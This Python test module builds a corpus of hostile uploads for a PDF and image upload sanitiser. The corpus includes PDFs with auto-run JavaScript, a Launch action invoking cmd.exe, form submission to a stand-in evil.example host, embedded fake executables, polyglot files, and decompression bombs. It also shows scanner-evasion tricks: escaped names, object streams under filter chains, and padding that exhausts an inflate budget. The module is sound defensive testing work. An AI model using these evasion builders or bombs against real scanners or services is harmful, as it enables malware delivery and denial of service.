"""A corpus of hostile uploads, built by code (pikepdf, Pillow, zlib): no binary blobs.

Each :class:`Hostile` file is either refused or, once stored, must hold none of its active
content. PDFs carry each kind of active content (scripts run on opening, on page or document
events, from the JavaScript name tree; actions that launch programs, open web addresses,
submit or import form data; XFA forms; embedded executables; rich media), hidden in each way a
byte scanner misses (object streams under ASCIIHex and ASCII85 filters, after a padding stream
that exhausts an inflate budget, names written with ``#xx`` escapes, actions in odd places).
Then polyglots (files that are two formats at once), HTML and SVG under another name,
decompression bombs and damaged files.

:func:`active_content` says what a stored PDF still holds that it should not; the tests
assert it is empty, and that no payload marker (:data:`MARKERS`) survives in the stored bytes
or in any decoded stream.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

# Payloads carry markers, so that a test can tell none of them survived anywhere in a file.
SCRIPT = b"app.alert('pwned-by-script')"
EXECUTABLE = b"MZ\x90\x00pwned-by-executable" + bytes(64)
XFA_SCRIPT = b"<script contentType='application/x-javascript'>xfa.host.messageBox('pwned-by-xfa')"
HTML = b"<html><body><script>alert('pwned-by-html')</script></body></html>"
MARKERS = (b"pwned-by-script", b"pwned-by-executable", b"pwned-by-xfa", b"pwned-by-html")
EVIL_URL = "https://evil.example/steal"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert('pwned-by-html')</script></svg>"
)

# What a disarmed PDF may not hold: keys anywhere, names as values anywhere.
FORBIDDEN_KEYS = frozenset(
    {"/AA", "/JS", "/JavaScript", "/XFA", "/NeedsRendering", "/EmbeddedFiles", "/EF", "/URI"}
    | {"/RichMediaContent", "/RichMediaSettings", "/3DD", "/Launch"}
)
FORBIDDEN_NAMES = frozenset(
    {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}
    | {"/RichMedia", "/RichMediaExecute", "/Rendition", "/Hide", "/SetOCGState", "/Sound"}
    | {"/FileAttachment", "/Screen", "/Movie", "/3D"}
)
PAGING = frozenset({"/NextPage", "/PrevPage", "/FirstPage", "/LastPage"})


@dataclass(frozen=True)
class Hostile:
    """One hostile upload and what must become of it.

    ``refusal`` is part of the message that refuses it; empty when it is stored disarmed.
    """

    name: str
    build: Callable[[], bytes]
    filename: str
    refusal: str = ""
    browser_type: str = "application/pdf"


# --- Building PDFs -------------------------------------------------------------------------


def javascript(pdf: Pdf | None = None) -> Dictionary:
    """A JavaScript action (its script a string; with ``pdf``, a stream)."""
    code: Any = String(SCRIPT) if pdf is None else Stream(pdf, SCRIPT)
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=code)


def harmless_pdf(pages: int = 2) -> Pdf:
    """A plain document: text on each page, and an outline whose items go to the pages."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=(300, 200))
        page = pdf.pages[-1]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        text = b"BT /F1 18 Tf 30 100 Td (Work certificate, page %d) Tj ET" % number
        page.obj.Contents = pdf.make_stream(text)
    with pdf.open_outline() as outline:
        for number, page in enumerate(pdf.pages, start=1):
            outline.root.append(pikepdf.OutlineItem(f"Page {number}", destination=page.index))
    # Tags: a paragraph per page, with layout attributes (under /A, but not an action).
    tags = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    tags.K = Array(
        pdf.make_indirect(
            Dictionary(
                Type=Name.StructElem,
                S=Name.P,
                P=tags,
                Pg=page.obj,
                A=Dictionary(O=Name.Layout, Placement=Name.Block),
            )
        )
        for page in pdf.pages
    )
    pdf.Root.StructTreeRoot = tags
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    return pdf


def saved(pdf: Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def link(pdf: Pdf, action: Dictionary, subtype: Name = Name.Link) -> Dictionary:
    """An annotation on the first page whose /A is ``action``."""
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[10, 10, 100, 40], A=action)
    )
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get(Name.Annots, Array()), annotation])
    return annotation


def plain() -> bytes:
    return saved(harmless_pdf())


def open_action_javascript() -> bytes:
    pdf = harmless_pdf()
    pdf.Root.OpenAction = javascript(pdf)
    return saved(pdf)


def open_action_goto_then_javascript() -> bytes:
    pdf = harmless_pdf()
    first = pdf.pages[0].obj
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([first, Name.Fit]), Next=Array([javascript()])
    )
    return saved(pdf)


def escaped_names() -> bytes:
    """``/J#61vaScript`` is ``/JavaScript``; a byte scanner must undo escapes, qpdf does."""
    pdf = harmless_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.ResetForm))  # a placeholder
    content = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return content.replace(b"/S /ResetForm", b"/S /J#61vaScript /J#53 (" + SCRIPT + b")", 1)


def page_additional_actions() -> bytes:
    pdf = harmless_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=javascript(), C=javascript(pdf))
    return saved(pdf)


def document_additional_actions() -> bytes:
    pdf = harmless_pdf()
    pdf.Root.AA = Dictionary(WC=javascript(), WP=javascript(pdf), DS=javascript())
    return saved(pdf)


def javascript_name_tree() -> bytes:
    pdf = harmless_pdf()
    tree = Dictionary(Names=Array([String("init"), pdf.make_indirect(javascript(pdf))]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))
    return saved(pdf)


def launch() -> bytes:
    pdf = harmless_pdf()
    link(
        pdf,
        Dictionary(
            S=Name.Launch,
            F=String("cmd.exe"),
            Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")),
        ),
    )
    return saved(pdf)


def uri() -> bytes:
    pdf = harmless_pdf()
    link(pdf, Dictionary(S=Name.URI, URI=String(EVIL_URL)))
    pdf.Root.URI = Dictionary(Base=String(EVIL_URL))
    return saved(pdf)


def submit_form() -> bytes:
    pdf = harmless_pdf()
    field = link(
        pdf,
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(EVIL_URL))),
        subtype=Name.Widget,
    )
    field.FT = Name.Btn
    field.T = String("send")
    field.AA = Dictionary(D=javascript())  # a form field's trigger, too
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return saved(pdf)


def import_data() -> bytes:
    """ImportData in an outline item, the second one chained after a GoTo."""
    pdf = harmless_pdf()
    first = pdf.Root.Outlines.First
    first.A = Dictionary(S=Name.ImportData, F=String("stolen.fdf"))
    if Name.Dest in first:
        del first.Dest
    second = first.Next
    second.A = Dictionary(
        S=Name.GoTo,
        D=Array([pdf.pages[1].obj, Name.Fit]),
        Next=Dictionary(S=Name.ImportData, F=String("stolen.fdf")),
    )
    return saved(pdf)


def xfa() -> bytes:
    pdf = harmless_pdf()
    packet = Stream(pdf, b"<xdp:xdp><template>" + XFA_SCRIPT + b"</script></template></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=packet)
    pdf.Root.NeedsRendering = True
    return saved(pdf)


def embedded_file() -> bytes:
    """An executable in the EmbeddedFiles name tree and behind a file-attachment annotation."""
    pdf = harmless_pdf()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
        pdf, EXECUTABLE, mime_type="application/octet-stream"
    )
    attached = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="readme.exe")
    page = pdf.pages[0].obj
    page.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=[0, 0, 20, 20],
                    FS=attached.obj,
                )
            )
        ]
    )
    return saved(pdf)


def rich_media() -> bytes:
    """RichMedia, Screen, Sound, Movie and 3D annotations, with their actions."""
    pdf = harmless_pdf()
    asset = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="player.swf").obj
    page = pdf.pages[0].obj
    annotations = [
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=[0, 0, 50, 50],
            RichMediaContent=Dictionary(
                Assets=Dictionary(Names=Array([String("player.swf"), asset]))
            ),
            RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
        ),
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Screen,
            Rect=[0, 0, 50, 50],
            A=Dictionary(S=Name.Rendition, OP=0, JS=String(SCRIPT)),
            AA=Dictionary(PO=javascript()),
        ),
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Sound,
            Rect=[0, 0, 5, 5],
            Sound=Stream(pdf, bytes(64), R=8000),
        ),
        Dictionary(
            Type=Name.Annot, Subtype=Name.Movie, Rect=[0, 0, 5, 5], Movie=Dictionary(F=String("m"))
        ),
        Dictionary(
            Type=Name.Annot,
            Subtype=Name("/3D"),
            Rect=[0, 0, 5, 5],
            **{"/3DD": Stream(pdf, b"U3D" + bytes(16), Type=Name("/3D"), Subtype=Name.U3D)},
        ),
    ]
    page.Annots = Array([pdf.make_indirect(annotation) for annotation in annotations])
    link(pdf, Dictionary(S=Name.RichMediaExecute, TA=page.Annots[0], CMD=Dictionary()))
    return saved(pdf)


def other_actions() -> bytes:
    """GoToR, GoToE, Hide, SetOCGState, Sound, Movie, and Named actions other than paging."""
    pdf = harmless_pdf()
    for action in (
        Dictionary(
            S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])
        ),
        Dictionary(S=Name.GoToE, F=String("x.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.Hide, T=String("field")),
        Dictionary(S=Name.SetOCGState, State=Array([Name.OFF])),
        Dictionary(S=Name.Sound, Sound=Stream(pdf, bytes(8))),
        Dictionary(S=Name.Movie, T=String("m")),
        Dictionary(S=Name.Named, N=Name.Print),
        Dictionary(S=Name.Named, N=Name.NextPage),  # this one is navigation: it may stay
    ):
        link(pdf, action)
    return saved(pdf)


def actions_in_odd_places() -> bytes:
    """Actions where no viewer looks (or might one day): found because every object is."""
    pdf = harmless_pdf()
    page = pdf.pages[0].obj
    page.Odd = javascript()
    page.Resources.Hidden = Array([Dictionary(Deep=Array([javascript(pdf)]))])
    pdf.Root.Stray = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("cmd.exe")))
    link(
        pdf,
        Dictionary(
            S=Name.GoTo,
            D=Array([pdf.pages[1].obj, Name.Fit]),
            Next=Array([javascript(), Dictionary(S=Name.Named, N=Name.FirstPage)]),
        ),
    )
    return saved(pdf)


def in_object_streams() -> bytes:
    """qpdf's own object streams (FlateDecode): the JavaScript is compressed, not in plain view."""
    pdf = harmless_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(javascript())
    pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(javascript()))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def encrypted_with_password() -> bytes:
    pdf = harmless_pdf()
    pdf.Root.OpenAction = javascript()
    return saved(pdf, encryption=pikepdf.Encryption(user="secret", owner="owner"))


def encrypted_without_password() -> bytes:
    """Only an owner password: anyone can open it, and so can we (its script goes)."""
    pdf = harmless_pdf()
    pdf.Root.OpenAction = javascript()
    return saved(pdf, encryption=pikepdf.Encryption(user="", owner="owner"))


# --- PDFs written by hand: object streams under filter chains, padding, bombs ---------------

ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "FlateDecode": zlib.compress,
    "ASCIIHexDecode": lambda data: base64.b16encode(data) + b">",
    "ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
}


def encode(data: bytes, filters: Sequence[str]) -> bytes:
    """Encode so that decoding with ``filters`` in order gives ``data`` back."""
    for name in reversed(filters):
        data = ENCODERS[name](data)
    return data


def flate_zeros(size: int, prefix: bytes = b"") -> bytes:
    """A zlib stream of ``prefix`` and then ``size`` zero bytes, made in milliseconds.

    One megabyte is compressed with a full flush, which makes its compressed block
    independent of what came before; repeating it gives any multiple of a megabyte without
    compressing it all (a decompression bomb, or a padding stream that exhausts a scan budget).
    """
    megabyte = bytes(1024 * 1024)
    count = max(1, size // len(megabyte))
    compressor = zlib.compressobj(9)
    start = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    first = compressor.compress(megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(prefix)
    for _ in range(count):
        checksum = zlib.adler32(megabyte, checksum)
    # An empty final block (fixed codes) ends the deflate data; the checksum ends zlib's.
    return start + first + again * (count - 1) + b"\x03\x00" + struct.pack(">I", checksum)


def lzw_zeros(tables: int) -> bytes:
    """LZW data (EarlyChange 1) that decodes to about 7.4 MB of zeros per ``tables``.

    Each code stands for one zero more than the one before, until the table is full; a
    clear code starts again. About 5.5 kB per table: a ratio of 1,300 to 1, and qpdf has no
    memory limit for LZW (the child process's memory limit stops it).
    """
    out = bytearray()
    pending = width = 0
    bits = 0

    def put(code: int, size: int) -> None:
        nonlocal pending, bits
        pending = (pending << size) | code
        bits += size
        while bits >= 8:
            bits -= 8
            out.append((pending >> bits) & 0xFF)
        pending &= (1 << bits) - 1

    width = 9
    for _ in range(tables):
        put(256, width)  # clear the table
        width = 9
        put(0, width)
        for code in range(258, 4094):
            put(code, width)
            if code + 2 >= 1 << width and width < 12:
                width += 1
    put(257, width)  # end of data
    if bits:
        put(0, 8 - bits)
    return bytes(out)


def handmade_pdf(
    *,
    filters: Sequence[str] = ("FlateDecode",),
    padding: int = 0,
    in_stream: Sequence[int] = (1, 4),
    stream_padding: int = 0,
    content: tuple[str, bytes] | None = None,
) -> bytes:
    """A one-page PDF 1.5 whose catalogue (object 1) opens a JavaScript action (object 4).

    The objects numbered in ``in_stream`` live in an object stream encoded with ``filters``,
    followed there by ``stream_padding`` zero bytes (FlateDecode only). With ``padding`` a
    FlateDecode stream of that many zero bytes comes first in the file. ``content`` is the
    page's content stream: a filter and its data.
    """
    script = SCRIPT.replace(b"(", b"\\(").replace(b")", b"\\)")
    filter_name, data = content or ("FlateDecode", zlib.compress(b""))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 7 0 R >>",
        4: b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>",
        7: stream_object(data, b"/Filter /" + filter_name.encode()),
    }
    if padding:
        objects[8] = stream_object(flate_zeros(padding), b"/Filter /FlateDecode")
    packed = {number: objects.pop(number) for number in in_stream}
    return written_pdf(objects, packed, filters=filters, stream_padding=stream_padding)


def stream_object(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def repacked(content: bytes, filters: Sequence[str]) -> bytes:
    """The PDF ``content`` written again, all objects but streams in one object stream
    encoded with ``filters``: its active content no longer in plain view."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        plain: dict[int, bytes] = {}
        packed: dict[int, bytes] = {}
        for obj in pdf.objects:
            number = obj.objgen[0]
            if isinstance(obj, Stream):
                data = obj.read_raw_bytes()  # (as qpdf wrote it: /Length is direct and right)
                plain[number] = obj.stream_dict.unparse() + b"\nstream\n" + data + b"\nendstream"
            elif number:
                packed[number] = obj.unparse(resolved=True)
        return written_pdf(plain, packed, filters=filters, root=pdf.Root.objgen[0])


def written_pdf(
    plain: dict[int, bytes],
    packed: dict[int, bytes],
    *,
    filters: Sequence[str],
    root: int = 1,
    stream_padding: int = 0,
) -> bytes:
    """A PDF 1.5 of numbered objects: ``plain`` ones written out (highest number first),
    ``packed`` ones in an object stream, and a cross-reference stream that finds them all."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    object_stream = max([*plain, *packed]) + 1
    xref = object_stream + 1

    def write(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    for number in sorted(plain, reverse=True):
        write(number, plain[number])
    index: dict[int, int] = {}
    if packed:
        header = body = b""
        for position, (number, text) in enumerate(sorted(packed.items())):
            index[number] = position
            header += b"%d %d " % (number, len(body))
            body += text + b"\n"
        if stream_padding:
            encoded = flate_zeros(stream_padding, prefix=header + body)
        else:
            encoded = encode(header + body, filters)
        names = b" ".join(b"/" + name.encode() for name in filters)
        write(
            object_stream,
            stream_object(
                encoded,
                b"/Type /ObjStm /N %d /First %d /Filter [%s]" % (len(packed), len(header), names),
            ),
        )
    rows = []
    for number in range(xref + 1):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number in packed:
            rows.append(struct.pack(">BIH", 2, object_stream, index[number]))
        elif number == xref:
            rows.append(struct.pack(">BIH", 1, len(out), 0))  # the xref stream itself
        else:
            rows.append(struct.pack(">BIH", 0, 0, 65535))
    start = len(out)
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (xref + 1, root)
    write(xref, stream_object(b"".join(rows), entries))
    out.extend(b"startxref\n%d\n%%%%EOF\n" % start)
    return bytes(out)


def polyglot_pdf_html() -> bytes:
    """A PDF whose first comment and a trailing part are HTML (a browser may sniff it)."""
    content = plain()
    return content.replace(b"\n", b"\n%" + HTML + b"\n", 1) + HTML + b"\n%%EOF\n"


def polyglot_pdf_zip() -> bytes:
    """A PDF with a ZIP archive (holding an executable) appended: also a valid ZIP."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("setup.exe", EXECUTABLE)
    return plain() + archive.getvalue() + b"\n%%EOF\n"


def polyglot_html_pdf() -> bytes:
    """HTML first, a PDF after it: PDF readers find the PDF, browsers run the HTML."""
    return HTML + b"\n" + plain()


def truncated() -> bytes:
    content = plain()
    return content[: len(content) * 2 // 3]


def garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


# --- Images --------------------------------------------------------------------------------


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 24), "navy").save(out, format="JPEG")
    return out.getvalue()


def png(size: tuple[int, int] = (16, 16), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, format="PNG")
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = flate_zeros(1024 * 1024)  # far too little data, which no one gets to read
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def png_bomb_just_over_the_limit() -> bytes:
    """7000 × 6000 greyscale: 42 megapixels, real data, about 40 kB compressed."""
    width, height = 7000, 6000
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes(height * (width + 1)), 9)  # a filter byte before each row
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def png_with_script_in_text() -> bytes:
    content = png()
    end = content.rindex(b"IEND") - 4
    return content[:end] + png_chunk(b"tEXt", b"Comment\x00" + HTML) + content[end:]


# --- The corpus ----------------------------------------------------------------------------

NOT_OURS = "This file is not a PDF, JPEG or PNG file."
TOO_COMPLEX = "This PDF is too big or too complex to check"
TOO_MANY_PIXELS = "The image is too large (over 40 million pixels)."
GIGABYTES = 2048 * 1024 * 1024

BUILT_WITH_PIKEPDF = [
    Hostile("open-action-javascript", open_action_javascript, "letter.pdf"),
    Hostile("open-action-goto-then-javascript", open_action_goto_then_javascript, "a.pdf"),
    Hostile("escaped-names", escaped_names, "hidden.pdf"),
    Hostile("page-additional-actions", page_additional_actions, "cv.pdf"),
    Hostile("document-additional-actions", document_additional_actions, "cv.pdf"),
    Hostile("javascript-name-tree", javascript_name_tree, "cv.pdf"),
    Hostile("launch", launch, "cv.pdf"),
    Hostile("uri", uri, "cv.pdf"),
    Hostile("submit-form", submit_form, "form.pdf"),
    Hostile("import-data", import_data, "form.pdf"),
    Hostile("xfa", xfa, "form.pdf"),
    Hostile("embedded-file", embedded_file, "invoice.pdf"),
    Hostile("rich-media", rich_media, "show.pdf"),
    Hostile("other-actions", other_actions, "cv.pdf"),
    Hostile("actions-in-odd-places", actions_in_odd_places, "cv.pdf"),
]
FILTER_CHAINS = [
    ["ASCIIHexDecode"],
    ["ASCII85Decode"],
    ["ASCII85Decode", "FlateDecode"],
    ["ASCIIHexDecode", "ASCII85Decode", "FlateDecode"],
]


def under(hostile: Hostile, chain: Sequence[str]) -> Hostile:
    """``hostile`` with its objects in an object stream encoded with the filter ``chain``."""
    return Hostile(
        f"{hostile.name}-under-{'-'.join(chain)}",
        lambda: repacked(hostile.build(), chain),
        hostile.filename,
    )


# Each kind of active content again under each filter chain; the upload form sees each kind
# under one chain (taking turns), the checks on bytes see them all.
UNDER_FILTER_CHAINS = [
    under(hostile, chain) for hostile in BUILT_WITH_PIKEPDF for chain in FILTER_CHAINS
]
UNDER_ONE_CHAIN_EACH = [
    under(hostile, FILTER_CHAINS[number % len(FILTER_CHAINS)])
    for number, hostile in enumerate(BUILT_WITH_PIKEPDF)
]
PDF_WITH_ACTIVE_CONTENT = [
    *BUILT_WITH_PIKEPDF,
    Hostile("object-streams", in_object_streams, "cv.pdf"),
    Hostile("objstm-flate", handmade_pdf, "cv.pdf"),
    Hostile("objstm-asciihex", lambda: handmade_pdf(filters=["ASCIIHexDecode"]), "cv.pdf"),
    Hostile("objstm-ascii85", lambda: handmade_pdf(filters=["ASCII85Decode"]), "cv.pdf"),
    Hostile(
        "objstm-ascii85-flate",
        lambda: handmade_pdf(filters=["ASCII85Decode", "FlateDecode"]),
        "cv.pdf",
    ),
    Hostile(
        "objstm-asciihex-ascii85-flate",
        lambda: handmade_pdf(filters=["ASCIIHexDecode", "ASCII85Decode", "FlateDecode"]),
        "cv.pdf",
    ),
    # 70 MB of padding first: more than the old scanner's 64 MB inflate budget.
    Hostile("objstm-after-padding", lambda: handmade_pdf(padding=70 << 20), "cv.pdf"),
    Hostile("plain-after-padding", lambda: handmade_pdf(padding=70 << 20, in_stream=()), "cv.pdf"),
    Hostile("owner-password-only", encrypted_without_password, "cv.pdf"),
    Hostile("polyglot-pdf-html", polyglot_pdf_html, "cv.pdf"),
    Hostile("polyglot-pdf-zip", polyglot_pdf_zip, "cv.pdf"),
]
REFUSED_FILES = [
    Hostile("user-password", encrypted_with_password, "cv.pdf", "protected with a password"),
    Hostile("flate-bomb", lambda: handmade_pdf(padding=GIGABYTES), "cv.pdf", TOO_COMPLEX),
    Hostile(
        "flate-bomb-in-object-stream",
        lambda: handmade_pdf(in_stream=[4], stream_padding=GIGABYTES),
        "cv.pdf",
        TOO_COMPLEX,
    ),
    # qpdf has no memory limit for LZW: the child process's own limit stops it.
    Hostile(
        "lzw-bomb",
        lambda: handmade_pdf(content=("LZWDecode", lzw_zeros(150))),
        "cv.pdf",
        TOO_COMPLEX,
    ),
    Hostile("truncated-pdf", truncated, "cv.pdf", "it does not end as a PDF"),
    Hostile("garbage-pdf", garbage, "cv.pdf", "This PDF file is damaged and cannot be read."),
    Hostile("polyglot-html-pdf", polyglot_html_pdf, "cv.pdf", NOT_OURS),
    Hostile("html-as-pdf", lambda: HTML, "cv.pdf", NOT_OURS),
    Hostile("svg-as-pdf", lambda: SVG, "drawing.pdf", NOT_OURS),
    Hostile("html-as-png", lambda: HTML, "photo.png", NOT_OURS, "image/png"),
    Hostile("svg-as-png", lambda: SVG, "photo.png", NOT_OURS, "image/svg+xml"),
    Hostile(
        "png-claiming-10-gigapixels",
        lambda: png_claiming(100_000, 100_000),
        "photo.png",
        TOO_MANY_PIXELS,
        "image/png",
    ),
    Hostile(
        "png-42-megapixels", png_bomb_just_over_the_limit, "photo.png", TOO_MANY_PIXELS, "image/png"
    ),
]
IMAGES_WITH_PAYLOADS = [
    Hostile("jpeg-with-pdf-appended", lambda: jpeg() + plain(), "photo.jpg", "", "image/jpeg"),
    Hostile("jpeg-with-html-appended", lambda: jpeg() + HTML, "photo.jpg", "", "image/jpeg"),
    Hostile("png-with-html-appended", lambda: png() + HTML, "photo.png", "", "image/png"),
    Hostile("png-with-html-in-a-text-chunk", png_with_script_in_text, "photo.png", "", "image/png"),
]
CORPUS = PDF_WITH_ACTIVE_CONTENT + UNDER_ONE_CHAIN_EACH + REFUSED_FILES + IMAGES_WITH_PAYLOADS
# Traces of a payload that a stored image must not hold.
IMAGE_PAYLOADS = (b"%PDF", b"<html", b"<script", *MARKERS)


# --- Checking what was stored ---------------------------------------------------------------


def _everything(pdf: Pdf) -> Iterator[Any]:
    """Every object of ``pdf``, indirect or written inside another, each once."""
    pending: list[Any] = [pdf.trailer, *pdf.objects]
    while pending:
        obj = pending.pop()
        yield obj
        if isinstance(obj, Dictionary | Stream):
            children = [value for _, value in obj.items()]
        elif isinstance(obj, Array):
            children = list(obj)
        else:
            continue
        pending.extend(
            child
            for child in children
            if isinstance(child, Dictionary | Array | Name) and not child.is_indirect
        )


def active_content(content: bytes) -> list[str]:
    """What in the PDF ``content`` is active or a payload; empty when it is disarmed."""
    found: list[str] = [
        f"marker {marker.decode()} in the file" for marker in MARKERS if marker in content
    ]
    with pikepdf.open(io.BytesIO(content)) as pdf:
        if pdf.is_encrypted:
            found.append("the file is still encrypted")
        opening = pdf.Root.get(Name.OpenAction)
        if isinstance(opening, Dictionary) and (
            opening.get(Name.S) != Name.GoTo or Name.Next in opening
        ):
            found.append(f"/OpenAction {opening!r}")
        for obj in _everything(pdf):
            found.extend(_forbidden_in(obj))
    return found


def _forbidden_in(obj: Any) -> Iterator[str]:
    if isinstance(obj, Name) and str(obj) in FORBIDDEN_NAMES:
        yield f"the name {obj}"
    if isinstance(obj, Dictionary | Stream):
        yield from (f"the key {key}" for key in obj if key in FORBIDDEN_KEYS)
        if obj.get(Name.S) == Name.Named and str(obj.get(Name.N)) not in PAGING:
            yield f"the named action {obj.get(Name.N)}"
    if isinstance(obj, Stream):
        try:
            data = obj.read_bytes()
        except pikepdf.PdfError:  # image codecs qpdf does not decode
            data = obj.read_raw_bytes()
        yield from (f"marker {marker.decode()} in a stream" for marker in MARKERS if marker in data)
